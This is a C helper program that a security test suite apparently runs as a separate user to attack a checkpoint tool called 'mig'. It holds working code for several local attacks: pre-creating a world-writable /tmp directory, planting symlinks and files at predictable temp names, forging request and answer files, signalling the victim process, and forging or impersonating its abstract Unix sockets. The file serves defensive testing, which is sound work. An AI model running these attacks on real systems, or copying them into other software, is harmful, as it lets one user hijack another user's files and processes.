/*
 * attacker.c - not a step subject: what another user tries against a victim's
 * checkpoints. tests/security.rs runs it under an unprivileged uid of its own.
 *
 *   attacker mkdir UID
 *       creates /tmp/mig-UID, mode 0777, before the victim (UID) could: the
 *       directory where mig's first versions exchanged requests and answers.
 *
 *   attacker plant IMAGE PID N TARGET
 *       plants IMAGE.tmp.PID ... IMAGE.tmp.<PID+N-1> (the names mig's first versions
 *       gave their temporary image files) in IMAGE's directory: even offsets a
 *       symlink to TARGET, odd ones a file of mode 0666 holding "planted\n".
 *
 *   attacker attack PID UID FIFO TARGET ROUND MS
 *       for MS milliseconds, or until SIGTERM, every few milliseconds, against process
 *       PID of user UID:
 *       - keeps /tmp/mig-UID/PID.req in place: ROUND 1 a request `to=FIFO`, `exit=1`;
 *         ROUND 2 a FIFO (a reader of it blocks);
 *       - keeps /tmp/mig-UID/PID.done.tmp a symlink to TARGET, and PID.done a forged
 *         `status=ok` answer;
 *       - sends PID SIGUSR1 with kill and with sigqueue, and SIGUSR2;
 *       - connects to every abstract socket `@mig/PID/...` listed in /proc/net/unix
 *         and writes a forged `status=ok` answer on it;
 *       - reads FIFO (its own, mode 0666, opened before it starts) and counts bytes.
 *       Prints, one line each, as it happens:
 *         `forged <socket name>`          a connection made and the answer written
 *         `request <n>`                    n bytes received on such a connection
 *         `delivered <kill|sigqueue|usr2>` a signal the kernel let through
 *       and at the end `eperm <n>` (signal attempts refused with EPERM), `other <n>`
 *       (refused otherwise), `fifo <n>` (bytes read from FIFO), then `end`.
 *
 *   attacker listen PID NONCE TO MS
 *       listens on the abstract socket `mig/PID/NONCE` (NONCE: 16 hex digits), prints
 *       `listening`, and for MS milliseconds answers every connection with a request
 *       `to=TO`, `exit=1`: prints `connected <peer pid> <peer uid>` for each, and
 *       `sent-us <n>` if the peer wrote n bytes; then `end`.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

static void say(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static void say(const char *fmt, ...)
{
    char buf[512];
    va_list ap;
    va_start(ap, fmt);
    int n = vsnprintf(buf, sizeof buf, fmt, ap);
    va_end(ap);
    if (n > 0 && write(1, buf, (size_t)n < sizeof buf ? (size_t)n : sizeof buf - 1) < 0)
        exit(3);
}

static volatile sig_atomic_t stop;

static void on_term(int sig)
{
    (void)sig;
    stop = 1;
}

static long long now_ms(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (long long)t.tv_sec * 1000 + t.tv_nsec / 1000000;
}

static void put_file(const char *path, const char *text, mode_t mode)
{
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_NOFOLLOW, mode);
    if (fd < 0)
        return;
    if (write(fd, text, strlen(text)) < 0) {
        /* nothing to do: the next round tries again */
    }
    fchmod(fd, mode);
    close(fd);
}

static int cmd_mkdir(const char *uid)
{
    char dir[256];
    snprintf(dir, sizeof dir, "/tmp/mig-%s", uid);
    if (mkdir(dir, 0777) != 0 && errno != EEXIST) {
        say("mkdir %s: %s\n", dir, strerror(errno));
        return 1;
    }
    if (chmod(dir, 0777) != 0) {
        say("chmod %s: %s\n", dir, strerror(errno));
        return 1;
    }
    say("made %s\n", dir);
    return 0;
}

static int cmd_plant(const char *image, long pid, long n, const char *target)
{
    for (long i = 0; i < n; i++) {
        char p[4200];
        snprintf(p, sizeof p, "%s.tmp.%ld", image, pid + i);
        if (i % 2 == 0) {
            if (symlink(target, p) != 0) {
                say("symlink %s: %s\n", p, strerror(errno));
                return 1;
            }
        } else {
            put_file(p, "planted\n", 0666);
        }
    }
    say("planted %ld\n", n);
    return 0;
}

/* Up to 64 socket names already forged an answer on. */
static char seen[64][108];
static int nseen;

static int was_seen(const char *name)
{
    for (int i = 0; i < nseen; i++)
        if (strcmp(seen[i], name) == 0)
            return 1;
    if (nseen < 64)
        snprintf(seen[nseen++], sizeof seen[0], "%s", name);
    return 0;
}

static void forge(const char *name)
{
    int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (s < 0)
        return;
    struct sockaddr_un a = { .sun_family = AF_UNIX };
    size_t len = strlen(name);
    if (len > sizeof a.sun_path - 1)
        len = sizeof a.sun_path - 1;
    memcpy(a.sun_path + 1, name, len); /* abstract: a leading NUL */
    if (connect(s, (struct sockaddr *)&a, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + len)) != 0) {
        close(s);
        return;
    }
    const char *forged = "writing=/forged.mig.tmp\nstatus=ok\npath=/forged.mig\nbytes=4096\nstopped_us=1\n";
    if (send(s, forged, strlen(forged), MSG_NOSIGNAL) > 0)
        say("forged @%s\n", name);
    struct pollfd p = { .fd = s, .events = POLLIN };
    long got = 0;
    while (poll(&p, 1, 100) > 0) {
        char buf[4096];
        ssize_t n = recv(s, buf, sizeof buf, MSG_DONTWAIT);
        if (n <= 0)
            break;
        got += n;
    }
    if (got > 0)
        say("request %ld\n", got);
    close(s);
}

/* Connects to every `@mig/<pid>/...` socket listed in /proc/net/unix. */
static void scan_sockets(long pid)
{
    char prefix[64];
    snprintf(prefix, sizeof prefix, "@mig/%ld/", pid);
    FILE *f = fopen("/proc/net/unix", "r");
    if (!f)
        return;
    char line[512];
    while (fgets(line, sizeof line, f)) {
        char *at = strstr(line, prefix);
        if (!at)
            continue;
        at[strcspn(at, " \n")] = 0;
        if (!was_seen(at + 1))
            forge(at + 1);
    }
    fclose(f);
}

static int cmd_attack(long pid, const char *uid, const char *fifo, const char *target, int round, long ms)
{
    char req[256], done_tmp[256], done[256];
    snprintf(req, sizeof req, "/tmp/mig-%s/%ld.req", uid, pid);
    snprintf(done_tmp, sizeof done_tmp, "/tmp/mig-%s/%ld.done.tmp", uid, pid);
    snprintf(done, sizeof done, "/tmp/mig-%s/%ld.done", uid, pid);
    char request[4200];
    snprintf(request, sizeof request, "to=%s\nexit=1\n", fifo);
    unlink(fifo);
    if (mkfifo(fifo, 0666) != 0 || chmod(fifo, 0666) != 0) {
        say("mkfifo %s: %s\n", fifo, strerror(errno));
        return 1;
    }
    int ff = open(fifo, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
    if (ff < 0) {
        say("open %s: %s\n", fifo, strerror(errno));
        return 1;
    }
    long fifo_bytes = 0, eperm = 0, other = 0;
    struct sigaction sa = { .sa_handler = on_term };
    sigaction(SIGTERM, &sa, NULL);
    long long until = now_ms() + ms;
    while (now_ms() < until && !stop) {
        struct stat st;
        if (round == 1) {
            if (lstat(req, &st) != 0 || !S_ISREG(st.st_mode)) {
                unlink(req);
                put_file(req, request, 0666);
            }
        } else if (lstat(req, &st) != 0 || !S_ISFIFO(st.st_mode)) {
            unlink(req);
            if (mkfifo(req, 0666) == 0)
                chmod(req, 0666);
        }
        if (lstat(done_tmp, &st) != 0 || !S_ISLNK(st.st_mode)) {
            unlink(done_tmp);
            if (symlink(target, done_tmp) != 0) {
                /* the directory may be gone: the test is ending */
            }
        }
        if (lstat(done, &st) != 0)
            put_file(done, "status=ok\npath=/forged.mig\nbytes=4096\nstopped_us=1\n", 0666);

        struct {
            const char *what;
            int r;
        } tries[3];
        tries[0].what = "kill";
        tries[0].r = kill((pid_t)pid, SIGUSR1);
        int e0 = errno;
        union sigval v = { .sival_ptr = (void *)0x1234abcd5678ef00ULL };
        tries[1].what = "sigqueue";
        tries[1].r = sigqueue((pid_t)pid, SIGUSR1, v);
        int e1 = errno;
        tries[2].what = "usr2";
        tries[2].r = kill((pid_t)pid, SIGUSR2);
        int e2 = errno;
        int errs[3] = { e0, e1, e2 };
        for (int i = 0; i < 3; i++) {
            if (tries[i].r == 0)
                say("delivered %s\n", tries[i].what);
            else if (errs[i] == EPERM)
                eperm++;
            else
                other++;
        }

        scan_sockets(pid);

        char buf[65536];
        ssize_t n;
        while ((n = read(ff, buf, sizeof buf)) > 0)
            fifo_bytes += n;
        struct timespec nap = { 0, 3 * 1000000L };
        nanosleep(&nap, NULL);
    }
    say("eperm %ld\nother %ld\nfifo %ld\nend\n", eperm, other, fifo_bytes);
    close(ff);
    return 0;
}

static int cmd_listen(const char *pid, const char *nonce, const char *to, long ms)
{
    char name[108];
    int len = snprintf(name, sizeof name, "mig/%s/%s", pid, nonce);
    int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    struct sockaddr_un a = { .sun_family = AF_UNIX };
    memcpy(a.sun_path + 1, name, (size_t)len);
    if (s < 0 || bind(s, (struct sockaddr *)&a, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + len)) != 0 || listen(s, 8) != 0) {
        say("listen %s: %s\n", name, strerror(errno));
        return 1;
    }
    say("listening\n");
    char request[4200];
    snprintf(request, sizeof request, "to=%s\nexit=1\n\n", to);
    long long until = now_ms() + ms;
    while (now_ms() < until) {
        struct pollfd p = { .fd = s, .events = POLLIN };
        if (poll(&p, 1, 20) <= 0)
            continue;
        int c = accept4(s, NULL, NULL, SOCK_CLOEXEC);
        if (c < 0)
            continue;
        struct ucred cr;
        socklen_t cl = sizeof cr;
        if (getsockopt(c, SOL_SOCKET, SO_PEERCRED, &cr, &cl) == 0)
            say("connected %d %u\n", (int)cr.pid, (unsigned)cr.uid);
        if (send(c, request, strlen(request), MSG_NOSIGNAL) < 0) {
            /* the peer may be gone already */
        }
        long got = 0;
        struct pollfd q = { .fd = c, .events = POLLIN };
        while (poll(&q, 1, 300) > 0) {
            char buf[4096];
            ssize_t n = recv(c, buf, sizeof buf, MSG_DONTWAIT);
            if (n <= 0)
                break;
            got += n;
        }
        if (got > 0)
            say("sent-us %ld\n", got);
        close(c);
    }
    say("end\n");
    return 0;
}

int main(int argc, char **argv)
{
    if (argc == 3 && strcmp(argv[1], "mkdir") == 0)
        return cmd_mkdir(argv[2]);
    if (argc == 6 && strcmp(argv[1], "plant") == 0)
        return cmd_plant(argv[2], atol(argv[3]), atol(argv[4]), argv[5]);
    if (argc == 8 && strcmp(argv[1], "attack") == 0)
        return cmd_attack(atol(argv[2]), argv[3], argv[4], argv[5], atoi(argv[6]), atol(argv[7]));
    if (argc == 6 && strcmp(argv[1], "listen") == 0)
        return cmd_listen(argv[2], argv[3], argv[4], atol(argv[5]));
    fprintf(stderr, "usage: attacker mkdir UID | plant IMAGE PID N TARGET | attack PID UID FIFO TARGET ROUND MS | listen PID NONCE TO MS\n");
    return 2;
}
